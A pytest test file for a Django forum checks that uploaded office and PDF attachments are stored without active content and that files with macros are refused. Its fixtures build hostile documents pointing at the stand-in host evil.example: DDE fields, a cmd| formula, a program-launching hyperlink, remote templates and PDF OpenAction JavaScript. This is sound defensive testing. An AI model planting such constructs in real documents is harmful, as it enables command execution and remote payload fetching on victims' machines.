"""Documents attached to a reply are stored without active content."""

from io import BytesIO
from pathlib import Path
from zipfile import ZipFile

from django.conf import settings as site

import pikepdf
import pytest

from forum.models import Attachment
from tests.core.documents.office import letter, odf, relationship, sheet, slide
from tests.forum.files.helpers import stored
from tests.forum.sample_files import upload

pytestmark = pytest.mark.django_db

EVIL = b"evil.example"


def hostile_pdf() -> bytes:
    document = pikepdf.new()
    page = document.add_blank_page().obj
    script = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="evil.example")
    page["/AA"] = pikepdf.Dictionary(O=script)
    document.Root["/OpenAction"] = script
    to = BytesIO()
    document.save(to)
    return to.getvalue()


HOSTILE = {
    "brief.docx": letter(
        '<w:p><w:fldSimple w:instr="DDEAUTO evil.example"/></w:p>',
        relationship("x", "attachedTemplate", "//evil.example/a", mode="External"),
    ),
    "cijfers.xlsx": sheet("<c><f>cmd|'evil.example'!A1</f><v>1</v></c>"),
    "dia.pptx": slide(
        '<p:sp><a:hlinkClick r:id="x" action="ppaction://program"/></p:sp>',
        relationship("x", "hyperlink", "file://evil.example/a.exe", mode="External"),
    ),
    "brief.odt": odf("<text:script>evil.example</text:script>"),
    "cijfers.ods": odf(
        "<table:table-source xlink:href='evil.example'/>", "spreadsheet"
    ),
    "dia.odp": odf("<draw:plugin xlink:href='//evil.example/a'/>", "presentation"),
    "stuk.pdf": hostile_pdf(),
}


def unpacked(content: bytes) -> bytes:
    if content.startswith(b"%PDF"):
        with pikepdf.open(BytesIO(content)) as document:
            to = BytesIO()
            document.save(to, compress_streams=False)
        return to.getvalue()
    with ZipFile(BytesIO(content)) as archive:
        return b"".join(archive.read(name) for name in archive.namelist())


@pytest.mark.parametrize("name", HOSTILE)
def test_an_attached_document_is_stored_without_its_active_content(
    client, topic, official, name
):
    assert EVIL in unpacked(HOSTILE[name])
    client.force_login(official)
    parent = topic.posts.get(number=1)
    data = {"source": "Zie hier", "source_format": "text"}
    response = client.post(
        f"{parent.path}antwoord/", data | {"uploads": [upload(name, HOSTILE[name])]}
    )
    assert response.status_code == 302
    assert client.get(Attachment.objects.get().path).status_code == 200
    (path,) = stored()
    assert EVIL not in unpacked((Path(site.FILES_ROOT) / path).read_bytes())


def test_a_document_with_macros_is_refused_and_the_text_is_kept(
    client, topic, official
):
    client.force_login(official)
    parent = topic.posts.get(number=1)
    sent = letter("", parts={"word/vbaProject.bin": b"evil"})
    data = {"source": "Mijn tekst", "source_format": "text"}
    response = client.post(
        f"{parent.path}antwoord/", data | {"uploads": [upload("a.docx", sent)]}
    )
    assert response.status_code == 200
    assert "Mijn tekst" in response.text
    assert "macro" in str(response.context["form"].errors["uploads"])
    assert not Attachment.objects.exists()
